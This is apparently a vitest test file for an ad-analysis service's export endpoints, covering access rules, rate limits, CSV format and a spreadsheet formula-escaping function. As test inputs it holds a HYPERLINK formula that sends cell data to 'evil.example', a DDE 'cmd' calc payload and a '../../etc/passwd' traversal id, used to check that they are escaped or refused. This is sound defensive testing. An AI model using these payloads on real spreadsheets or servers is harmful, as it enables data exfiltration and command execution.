import {
  type AnalyzedCreative,
  ENDPOINTS,
  EXPORT_TEXTS,
  type PlanName,
  TEXTS,
  creativeFilePath,
  rubricSchema,
} from '@adjudge/contract';
import type { Analysis } from '@adjudge/engine/report';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { analyses, users } from '../../src/db/schema.ts';
import { escapeFormula } from '../../src/formats/escape-formula.ts';
import { png } from '../../src/testing/pictures.ts';
import type { TestBrowser } from '../../src/testing/test-browser.ts';
import { type TestProduct, testProduct } from '../../src/testing/test-product.ts';
import { gradedExample } from '../fixtures/graded-examples.ts';

const csv = ENDPOINTS.exportCsv.path;
const pdf = ENDPOINTS.exportPdf.path;
const documentation = ENDPOINTS.exportDocumentation.path;
const rubric = ENDPOINTS.exportRubric.path;
const picture = ENDPOINTS.exportPicture.path;

let product: TestProduct;
let owner: TestBrowser;
let analysis: AnalyzedCreative;

beforeAll(async () => {
  product = await testProduct({ rateLimits: { export: { max: 10_000, seconds: 60 } } });
});
afterAll(() => product.close());
beforeEach(async () => {
  owner = await product.member();
  await pays(owner);
  analysis = await owner.analyze(await png('spring-sale.png'), 'Everything must go this Sunday.');
});

const becomes = (person: TestBrowser, change: Partial<typeof users.$inferInsert>) =>
  product.database.db.update(users).set(change).where(eq(users.email, person.email));
const pays = (person: TestBrowser, currentPlan: PlanName = 'Banner Package') =>
  becomes(person, { isPaidUser: true, currentPlan });

/** Replaces the graded report with another one. */
async function says(report: Analysis): Promise<void> {
  const { analysisId } = analysis;
  const creative = { ...report.creative, url: creativeFilePath(analysisId) };
  await product.database.db
    .update(analyses)
    .set({ report: { ...report, creative } })
    .where(eq(analyses.id, analysisId));
}

type Row = Record<string, string>;
async function table(): Promise<Row[]> {
  const answer = await owner.post(csv, { analysisId: analysis.analysisId });
  expect(answer.statusCode).toBe(200);
  return parse(answer.body, { bom: true, columns: true });
}

describe('export permissions', () => {
  const calls = [
    ['CSV', csv, {}, (of: string) => `analysis-data-${of}.csv`],
    ['PDF', pdf, { options: { format: 'Letter' } }, (of: string) => `analysis-report-${of}.pdf`],
    ['full PDF', pdf, { options: { record: 'full' } }, (of: string) => `full-report-${of}.pdf`],
    [
      'documentation',
      documentation,
      { format: 'executive' },
      (of: string) => `documentation-executive-${of}.pdf`,
    ],
    ['marked picture', picture, { picture: 'marked' }, (of: string) => `marked-creative-${of}.png`],
    ['rubric JSON', rubric, { format: 'json' }, (of: string) => `rubric-${of}.json`],
    ['rubric PDF', rubric, { format: 'pdf' }, (of: string) => `rubric-${of}.pdf`],
  ] as const;
  beforeEach(async () => {
    await pays(owner, 'Enterprise');
    // Its fixes have places on the picture, without which there is no marked one.
    await says((await gradedExample('pale-leaderboard')).analysis);
  });

  it.each(calls)(
    '%s: is sent to a paid owner, uncached and with a file name',
    async (_name, path, options, fileName) => {
      const answer = await owner.post(path, { analysisId: analysis.analysisId, ...options });
      expect(answer.statusCode).toBe(200);
      expect(answer.headers['content-disposition']).toBe(
        `attachment; filename="${fileName(`spring-sale-${analysis.analysisId}`)}"`,
      );
      expect(answer.headers['cache-control']).toBe('no-store');
    },
  );

  it.each(calls)('%s: is refused on the free trial, except for an admin', async (_name, path, options) => {
    const body = { analysisId: analysis.analysisId, ...options };
    await becomes(owner, { isPaidUser: false, currentPlan: 'Free Trial' });
    const refused = await owner.post(path, body);
    expect([refused.statusCode, refused.json().code]).toEqual([403, 'denied']);
    const admin = await product.admin();
    expect((await admin.post(path, body)).statusCode).toBe(200);
  });

  it.each(calls)(
    '%s: is refused to other users, even if the analysis is public',
    async (_name, path, options) => {
      const body = { analysisId: analysis.analysisId, ...options };
      const other = await product.member();
      await pays(other, 'Enterprise');
      const { db } = product.database;
      await db.update(analyses).set({ isPublic: true }).where(eq(analyses.id, analysis.analysisId));
      const answers = [
        await other.post(path, body),
        await other.post(path, { ...body, analysisId: 'x'.repeat(21) }),
        await product.browser().post(path, body),
        await owner.post(path, { ...body, analysisId: '../../etc/passwd' }),
      ];
      expect(answers.map((answer) => [answer.statusCode, answer.json().error])).toEqual([
        [404, TEXTS.analysisAbsent],
        [404, TEXTS.analysisAbsent],
        [401, TEXTS.notAuthenticated],
        [400, 'This is not the id of an analysis. Please check the link.'],
      ]);
    },
  );

  it('rubric: is refused without a paid Enterprise package', async () => {
    await pays(owner, 'Combined Package');
    const refused = await owner.post(rubric, { analysisId: analysis.analysisId, format: 'json' });
    expect([refused.statusCode, refused.json().error]).toEqual([403, EXPORT_TEXTS.enterpriseOnly]);
    await becomes(owner, { currentPlan: 'Enterprise', isPaidUser: false });
    const refunded = await owner.post(rubric, { analysisId: analysis.analysisId, format: 'json' });
    expect(refunded.statusCode).toBe(403);
  });

  it.each([
    ['an unknown documentation format', documentation, { format: 'secret' }],
    ['an unknown paper format', pdf, { options: { format: 'A3' } }],
    ['an unknown record', pdf, { options: { record: 'short' } }],
    ['an unknown picture', picture, { picture: 'original' }],
    ['an unknown rubric format', rubric, { format: 'exe' }],
  ])('refuses %s as invalid', async (_what, path, options) => {
    const answer = await owner.post(path, { analysisId: analysis.analysisId, ...options });
    expect([answer.statusCode, answer.json().code]).toEqual([400, 'invalid']);
  });

  it('says in the error that a paid plan is needed', async () => {
    await becomes(owner, { isPaidUser: false });
    const answer = await owner.post(csv, { analysisId: analysis.analysisId });
    expect(answer.json().error).toBe(EXPORT_TEXTS.paidOnly);
  });

  it('limits all exports of an account together', async () => {
    const limited = await testProduct({ rateLimits: { export: { max: 2, seconds: 60 } } });
    const member = await limited.member();
    await limited.database.db.update(users).set({ isPaidUser: true });
    const { analysisId } = await member.analyze(await png());
    const statuses = [];
    for (const path of [csv, csv, pdf]) statuses.push((await member.post(path, { analysisId })).statusCode);
    expect(statuses).toEqual([200, 200, 429]);
    await limited.close();
  });
});

describe('the CSV export', () => {
  it('contains everything in the report', async () => {
    const { analysis: report } = await gradedExample('loud-rectangle');
    await says(report);
    const rows = await table();
    const inSection = (section: string) => rows.filter(({ Section }) => Section === section);
    const [overall] = rows;
    expect(overall).toMatchObject({
      Item: 'Overall score',
      Score: String(report.overallScore),
      'Shown as': report.grade,
      Text: report.verdict,
    });
    expect(inSection('Categories').map(({ Item, Score }) => [Item, Score])).toEqual(
      report.scoreBreakdown.map(({ category, score }) => [category, String(score ?? '')]),
    );
    expect(rows.filter(({ Section }) => Section?.startsWith('Checks: '))).toHaveLength(report.audits.length);
    expect(inSection('Recommendations').map(({ Text }) => Text)).toEqual(
      report.recommendations.map(({ text }) => text),
    );
    const said = rows.flatMap((row) => Object.values(row)).join('\n');
    for (const text of [
      ...report.keyInsights.strengths,
      ...report.keyInsights.weaknesses,
      ...report.audits.flatMap(({ observation, why, fix }) => [observation, why, fix]),
      ...report.optimizationRecommendations.copyEdits.map(({ revised }) => revised),
      ...report.performancePredictions.map(({ value }) => value),
      ...report.abTestingIdeas.map(({ variant }) => variant),
      ...report.reasoningTransparency.detailedExplanations,
    ])
      expect(said).toContain(text);
  });

  it('has a byte order mark, CRLF line endings and quoted cells for Excel', async () => {
    const { rawPayload, headers } = await owner.post(csv, { analysisId: analysis.analysisId });
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = rawPayload.toString('utf8').slice(1).split('\r\n');
    expect(lines[0]).toMatch(/^"Section","Item",/);
    expect(lines.length).toBeGreaterThan(20);
  });

  it('keeps text in any script unchanged', async () => {
    const copy = 'Söldä “quoted”, 50 % 🎉 – مرحبا, שלום, 你好; 안녕';
    await says({ ...(await gradedExample('wordless')).analysis, adCopy: copy });
    const rows = await table();
    expect(rows.find(({ Item }) => Item === 'Ad copy')?.['Text']).toBe(copy);
  });

  it('escapes a formula in the ad copy', async () => {
    const copy = '=HYPERLINK("https://evil.example?"&A1,"Click")';
    await says({ ...(await gradedExample('wordless')).analysis, adCopy: copy });
    const rows = await table();
    expect(rows.find(({ Item }) => Item === 'Ad copy')?.['Text']).toBe(`'${copy}`);
  });
});

describe('the rubric as JSON', () => {
  it('contains the weights and scores needed to recompute the sum', async () => {
    const { analysis: report } = await gradedExample('loud-rectangle');
    await says(report);
    await pays(owner, 'Enterprise');
    const answer = await owner.post(rubric, { analysisId: analysis.analysisId, format: 'json' });
    const { categories, overallScore, gradeScale } = rubricSchema.parse(answer.json());
    const sum = categories.reduce((total, { weight, score }) => total + weight * (score ?? 0), 0);
    expect(sum).toBeCloseTo(overallScore ?? 0, 0);
    expect(gradeScale[0]).toEqual({ grade: 'A+', from: 97 });
    expect(categories.flatMap(({ checks }) => checks)).toHaveLength(report.audits.length);
    expect(categories.every(({ question, reason }) => question && reason)).toBe(true);
  });
});

describe('the PDF export', () => {
  it('is made with default options', async () => {
    const answer = await owner.post(pdf, { analysisId: analysis.analysisId });
    expect([answer.statusCode, answer.headers['content-type']]).toEqual([200, 'application/pdf']);
    expect(answer.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('is made even if the creative’s file is gone', async () => {
    for (const key of await product.store.keys()) await product.store.remove(key);
    const answer = await owner.post(pdf, { analysisId: analysis.analysisId });
    expect(answer.statusCode).toBe(200);
  });
});

describe('escapeFormula', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|' /C calc'!A0",
    '\tindented',
  ])('adds an apostrophe before text that a spreadsheet could run: %j', (text) => {
    expect(escapeFormula(text).startsWith("'")).toBe(true);
  });

  it.each(['Save 30 % = more', 'a-b', '“=” is a sign', '5 + 5', 'x@y.example', '', '–5'])(
    'leaves harmless text unchanged: %j',
    (text) => {
      expect(escapeFormula(text)).toBe(text);
    },
  );

  it('removes control characters and replaces lone surrogates', () => {
    expect(escapeFormula('a\u0000b\u001bc\ud800d')).toBe('abc\ufffdd');
  });
});
